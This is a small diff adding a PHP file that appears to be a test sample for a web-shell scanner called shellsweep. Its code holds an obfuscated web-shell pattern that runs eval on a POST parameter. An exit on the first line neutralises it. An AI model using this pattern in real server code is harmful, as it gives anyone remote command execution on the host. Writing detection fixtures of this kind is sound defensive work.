@@ -1,0 +1,4 @@
+<?php exit; /* shellsweep test sample: inert, never functional */ ?>
+<?php
+$x = ${'_P'.'OST'};
+eval($x['c']);
